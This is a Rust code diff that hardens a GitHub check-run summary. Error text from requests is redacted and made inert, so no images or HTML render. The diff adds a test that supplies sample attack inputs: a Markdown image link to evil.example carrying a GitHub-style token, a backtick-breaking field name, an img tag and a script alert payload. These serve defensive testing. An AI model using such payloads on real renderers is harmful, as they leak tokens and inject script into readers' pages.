@@ -59,7 +59,7 @@ pub fn description(status: &RequestStatus) -> String {
     let mut line = phase.to_owned();
     if status.clusters.is_empty() {
         if let Some(error) = status.error.as_deref() {
-            let _ = write!(line, ": {}", one_line(error));
+            let _ = write!(line, ": {}", one_line(&crate::redact::text(error)));
         }
         return fit(line);
     }
@@ -112,6 +112,12 @@ fn one_line(text: &str) -> String {
     text.split_whitespace().collect::<Vec<_>>().join(" ")
 }
 
+/// Text from a request or an agent (an error that quotes a request file, a runner's error),
+/// for Markdown that GitHub renders: redacted, on one line, and inert (no image, no HTML).
+fn inert(text: &str) -> String {
+    crate::redact::markdown::neutralize(&one_line(&crate::redact::text(text)))
+}
+
 /// The check run's title: the phase, and how many clusters are done.
 pub fn title(status: &RequestStatus) -> String {
     let done = status
@@ -144,10 +150,15 @@ pub fn summary(status: &RequestStatus, report_url: &str, marker: Option<&str>) -
         status.id, status.phase
     );
     if let Some(error) = status.error.as_deref() {
-        let _ = writeln!(out, "> {}\n", one_line(error));
+        let _ = writeln!(out, "> {}\n", inert(error));
     }
     for error in status.errors.iter().take(20) {
-        let _ = writeln!(out, "- `{}`: {}", error.field, one_line(&error.message));
+        let _ = writeln!(
+            out,
+            "- {}: {}",
+            crate::render::code(&error.field),
+            inert(&error.message)
+        );
     }
     if !status.errors.is_empty() {
         out.push('\n');
@@ -268,6 +279,31 @@ mod tests {
             line.starts_with("rejected: xxx") && line.ends_with('…'),
             "{line}"
         );
+    }
+
+    #[test]
+    fn text_from_a_request_is_redacted_and_inert_on_github() {
+        let mut rejected = request(RequestPhase::Rejected, &[]);
+        let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
+        rejected.error = Some(format!(
+            "bad value ![x](https://evil.example/p.png?t={token}) <img src=x>"
+        ));
+        rejected.errors = vec![warroom_proto::FieldError {
+            field: "spec.`![y](https://evil.example/q.png)`".to_owned(),
+            message: "unknown <script>alert(1)</script>".to_owned(),
+        }];
+        let body = summary(
+            &rejected,
+            "https://github.com/o/n/blob/main/results/r/README.md",
+            None,
+        );
+        assert!(!body.contains(token), "{body}");
+        assert_eq!(
+            crate::redact::markdown::neutralize(&body),
+            body,
+            "nothing in the summary renders as an image or HTML: {body}"
+        );
+        assert!(!description(&rejected).contains(token));
     }
 
     #[test]
